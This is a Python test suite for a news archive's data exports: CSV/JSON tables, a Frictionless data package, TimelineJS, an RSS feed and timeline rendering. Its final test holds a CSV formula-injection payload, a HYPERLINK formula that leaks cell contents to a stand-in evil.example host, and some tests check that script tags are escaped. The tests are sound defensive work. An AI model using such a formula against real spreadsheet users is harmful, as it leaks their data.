"""Data exports for reuse: CSV/JSON tables, the Frictionless data package (validated with
frictionless), the TimelineJS document, the RSS feed (parsed with feedparser), the data
page, and the timeline page's structure at thousands of items.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import shutil
from dataclasses import replace
from pathlib import Path

import feedparser
import frictionless
import pytest

from build_scripts.export import LIST_SEP
from build_scripts.feeds import FEED_ITEMS
from build_scripts.records import Archive, Article, Block, DateValue, Event, PartialDate
from build_scripts.timeline import COVERAGE_SHOWN, OPEN_LIMIT, render_timeline
from sitecheck import load_mkdocs_config
from test_cite import FIXTURES, HOSTILE, REPO, Generated, fixture_docs, generate, seeds_docs  # noqa: F401 - fixtures

TABLES = ("articles", "events", "people", "organizations")


def read_csv(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))


# --------------------------------------------------------------------------- data package
def _validate(descriptor: Path) -> frictionless.Report:
    return frictionless.validate(str(descriptor))


def _errors(report: frictionless.Report) -> list[str]:
    return [f"{t.name}: {e.type}: {e.message}" for t in report.tasks for e in t.errors] + \
           [e.message for e in report.errors]


@pytest.mark.parametrize("which", ["seeds", "fixtures"])
def test_data_package_is_valid(which: str, seeds_docs: Generated, fixture_docs: Generated) -> None:
    docs = seeds_docs.docs if which == "seeds" else fixture_docs.docs
    report = _validate(docs / "data" / "datapackage.json")
    assert report.valid, "\n".join(_errors(report))
    names = {t.name for t in report.tasks}
    assert set(TABLES) <= names and {"articles-full", "captures", "timeline"} <= names


def test_data_package_catches_tampering_and_broken_keys(seeds_docs: Generated, tmp_path: Path) -> None:
    """Guards the guard: a changed byte breaks the SHA-256, an unknown event id the foreign key."""
    data = tmp_path / "data"
    shutil.copytree(seeds_docs.docs / "data", data)
    events = data / "events.csv"
    events.write_text(events.read_text(encoding="utf-8").replace("Beijing", "Beijinx", 1), encoding="utf-8")
    rows = read_csv(data / "articles.csv")
    linked = next(r for r in rows if r["event"])
    text = (data / "articles.csv").read_text(encoding="utf-8")
    (data / "articles.csv").write_text(text.replace(f",{linked['event']},", ",no-such-event,", 1), encoding="utf-8")
    report = _validate(data / "datapackage.json")
    kinds = {(t.name, e.type) for t in report.tasks for e in t.errors}
    assert not report.valid
    assert {("events", "hash-count"), ("articles", "foreign-key"), ("articles", "hash-count")} <= kinds


# --------------------------------------------------------------------------- tables
def test_csv_and_json_tables_agree_with_the_articles(seeds_docs: Generated) -> None:
    data = seeds_docs.docs / "data"
    articles = seeds_docs.by_id()
    rows = read_csv(data / "articles.csv")
    assert sorted(r["id"] for r in rows) == sorted(articles)
    for r in rows:
        a = articles[r["id"]]
        for key in ("title", "outlet", "agency", "event", "date_certainty", "seed_sha256"):
            assert r[key] == (a[key] or ""), key
        assert r["date"] == (str(a["date"]) if a["date"] else "")
        assert r["people"].split(LIST_SEP) == a["people"] if a["people"] else r["people"] == ""
        assert int(r["words"]) == a["words"]


def test_entity_and_event_tables_count_their_articles(seeds_docs: Generated) -> None:
    data, articles = seeds_docs.docs / "data", seeds_docs.articles
    events = json.loads((data / "events.json").read_text(encoding="utf-8"))
    assert sorted(e["id"] for e in events) == sorted(p.stem for p in (seeds_docs.docs / "events").glob("*.md")
                                                       if p.stem != "index")
    for e in events:
        assert e["article_ids"] == sorted(a["id"] for a in articles if a["event"] == e["id"])
    people = json.loads((data / "people.json").read_text(encoding="utf-8"))
    assert len(people) == len(read_csv(data / "people.csv")) == len(list((seeds_docs.docs / "people").glob("*.md"))) - 1
    by_name = {p["name"]: p for p in people}
    for a in articles:
        for name in a["people"]:
            assert a["id"] in by_name[name]["article_ids"], (name, a["id"])
    assert all(p["articles"] == len(p["article_ids"]) for p in people)
    curated = [p for p in people if p["roles"]]
    assert curated, "curated people carry their roles"
    csv_roles = {r["id"]: r["roles"] for r in read_csv(data / "people.csv")}
    assert all(csv_roles[p["id"]].count(LIST_SEP) == len(p["roles"]) - 1 for p in curated)


# --------------------------------------------------------------------------- TimelineJS
def test_timelinejs_document(seeds_docs: Generated, fixture_docs: Generated) -> None:
    for gen in (seeds_docs, fixture_docs):
        doc = json.loads((gen.docs / "data" / "timeline.json").read_text(encoding="utf-8"))
        dated = {a["id"]: a for a in gen.articles if a["date"]}
        assert sorted(s["unique_id"] for s in doc["events"]) == sorted(dated)  # undated ones left out
        for slide in doc["events"]:
            a, start = dated[slide["unique_id"]], slide["start_date"]
            parts = str(a["date"]).split("-")
            assert [start.get(k) for k in ("year", "month", "day")][:len(parts)] == [str(int(p)) for p in parts]
            assert len([k for k in ("year", "month", "day") if k in start]) == len(parts)  # no day invented
            assert ("(inferred)" in start["display_date"]) == (a["date_certainty"] == "inferred")
            assert "<script" not in json.dumps(slide)  # TimelineJS reads HTML: capture text is escaped
        assert len(doc["eras"]) == len(list((gen.docs / "events").glob("*.md"))) - 1


# --------------------------------------------------------------------------- the feed
def test_feed_parses_and_dates_keep_their_precision(seeds_docs: Generated, fixture_docs: Generated) -> None:
    for gen in (seeds_docs, fixture_docs):
        feed = feedparser.parse((gen.docs / "feed.xml").read_bytes())
        assert not feed.bozo, feed.get("bozo_exception")
        assert len(feed.entries) == min(FEED_ITEMS, len(gen.articles))
        articles = {a["id"]: a for a in gen.articles}
        for entry in feed.entries:
            a = articles[entry.link.rstrip("/").rsplit("/", 1)[-1]]
            assert entry.title == " ".join(a["title"].split())
            assert "published" not in entry  # no RFC 822 pubDate: it would invent a day and a time
            assert entry.get("updated") == (str(a["date"]) if a["date"] else None)
        dated = [str(articles[e.link.rstrip("/").rsplit("/", 1)[-1]]["date"]) for e in feed.entries
                 if e.get("updated")]
        assert dated == sorted(dated, reverse=True), "newest first"


def test_feed_escapes_the_hostile_title(fixture_docs: Generated) -> None:
    raw = (fixture_docs.docs / "feed.xml").read_text(encoding="utf-8")
    assert "<script>" not in raw
    entry = next(e for e in feedparser.parse(raw).entries if HOSTILE in e.link)
    assert entry.title == fixture_docs.by_id()[HOSTILE]["title"]


# --------------------------------------------------------------------------- the data page
def test_data_page_is_in_the_nav_and_links_to_every_download(seeds_docs: Generated) -> None:
    nav = load_mkdocs_config(REPO / "mkdocs.yml")["nav"]
    assert {"Data": "data/index.md"} in nav
    page = (seeds_docs.docs / "data" / "index.md").read_text(encoding="utf-8")
    targets = re.findall(r"\]\(([^)#:]+)\)", page)
    assert {f"{t}.csv" for t in TABLES} | {"datapackage.json", "timeline.json", "../feed.xml"} <= set(targets)
    missing = [t for t in targets if not (seeds_docs.docs / "data" / t).resolve().is_file()]
    assert not missing, missing


def test_leads_exports_are_still_written(seeds_docs: Generated) -> None:
    for rel in ("data/articles.json", "data/captures.json", "captures/SHA256SUMS"):
        assert (seeds_docs.docs / rel).is_file()
    assert all("text" in a for a in seeds_docs.articles)


# --------------------------------------------------------------------------- timeline at scale
def _synthetic(n_articles: int, years: range) -> Archive:
    """A large archive: one event a month, articles spread over the days; some inferred, some undated."""
    events = tuple(Event(f"ev-{y}-{m:02d}", f"Meeting {y}-{m:02d}", dt.date(y, m, 10), dt.date(y, m, 11))
                   for y in years for m in range(1, 13))
    articles = []
    for i in range(n_articles):
        e = events[i % len(events)]
        undated = i % 97 == 0
        date = DateValue.unknown() if undated else DateValue(
            PartialDate(e.start.year, e.start.month, None if i % 3 else 12), "inferred" if i % 3 else "stated")
        articles.append(Article(
            id=f"a{i:05d}", seed=f"s{i}.txt", seed_sha256="0" * 64, seed_size=1, title=f"Report {i} <b>",
            title_source="capture", date=date, outlet="Gazette", agency=None, people=(), organizations=(),
            places=(), event=None if i % 11 == 0 else e.id, event_basis="", tags=(), words=10, language="en",
            blocks=(Block("paragraph", "Text."),), removed=()))
    used = {a.event for a in articles}
    return Archive(tuple(articles), tuple(e for e in events if e.id in used), (), ())


def test_timeline_handles_thousands_of_items() -> None:
    archive = _synthetic(3000, range(2015, 2025))
    page = render_timeline(archive)
    years = re.findall(r'<details class="tl-year"( open)? markdown="1">', page)
    assert len(years) == 11  # ten years and "Date unknown"
    assert not any(years[:10]), f"years of {3000 // 10} items must start collapsed (limit {OPEN_LIMIT})"
    for a in archive.articles:  # every article linked exactly once, under its event or on its own
        assert page.count(f"(articles/{a.id}.md)") == 1, a.id
    assert page.count('<details class="tl-more"') == len(archive.events)  # long coverage folds
    assert page.count('<span class="tl-inferred">inferred</span>') == 1 + sum(
        a.date.certainty == "inferred" for a in archive.articles)
    assert "<b>" not in page and "Report 1 &lt;b&gt;" in page
    assert COVERAGE_SHOWN < 3000 // len(archive.events)


def test_timeline_opens_small_years() -> None:
    page = render_timeline(_synthetic(30, range(2020, 2021)))
    assert '<details class="tl-year" open markdown="1">' in page


# --------------------------------------------------------------------------- formulations
def test_formulation_tables_only_when_formulations_are_tracked(tmp_path: Path) -> None:
    from build_scripts.cite import ArchiveInfo
    from build_scripts.export import data_files, tables
    from build_scripts.records import Formulation, FormulationUse

    plain = _synthetic(30, range(2020, 2021))
    assert [t.name for t in tables(plain)] == list(TABLES)
    f = Formulation("shared-future", "shared future", ("shared future", "common future"), chinese="共同体")
    uses = {"shared-future": (FormulationUse("a00004", "common future", 1, "A common future."),
                              FormulationUse("a00001", "shared future", 2, "A shared future."))}
    archive = replace(plain, formulations=(f,), formulation_uses=uses)
    by_name = {t.name: t for t in tables(archive)}
    (row,) = by_name["formulations"].rows
    dates = {a.id: a.date.value.iso() for a in archive.articles if a.id in ("a00001", "a00004")}
    assert (row["articles"], row["uses"], row["article_ids"]) == (2, 3, ["a00001", "a00004"])
    assert {row["first_use"], row["last_use"]} == set(dates.values())
    assert [(r["article"], r["count"]) for r in by_name["formulation_uses"].rows] == [("a00001", 2), ("a00004", 1)]
    files = data_files(archive, ArchiveInfo("Test archive"))
    assert {"data/articles.json", "data/captures.json"} <= {rel for rel, _ in files}
    for rel, content in files:
        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / rel).write_text(content, encoding="utf-8")
    report = frictionless.validate(str(tmp_path / "data" / "datapackage.json"))
    assert report.valid, "\n".join(_errors(report))
    assert {"formulations", "formulation_uses"} <= {t.name for t in report.tasks}


def test_csv_text_that_a_spreadsheet_would_run_is_kept_as_text() -> None:
    """A headline from an untrusted capture such as =HYPERLINK(...) must not become a live
    formula when a journalist opens the CSV; the JSON keeps it as it is."""
    from build_scripts.export import table_csv, table_json, tables

    plain = _synthetic(4, range(2020, 2021))
    hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1 fact", "@SUM(A1:A9)", "-5 reasons"]
    archive = replace(plain, articles=tuple(replace(a, title=t) for a, t in zip(plain.articles, hostile)))
    table = next(t for t in tables(archive) if t.name == "articles")
    titles = [r["title"] for r in csv.DictReader(io.StringIO(table_csv(table)))]
    assert titles == ["'" + t for t in hostile]
    assert [r["title"] for r in json.loads(table_json(table))] == hostile
    words = [r["words"] for r in csv.DictReader(io.StringIO(table_csv(table)))]
    assert words == ["10"] * 4  # numbers are not text: left alone
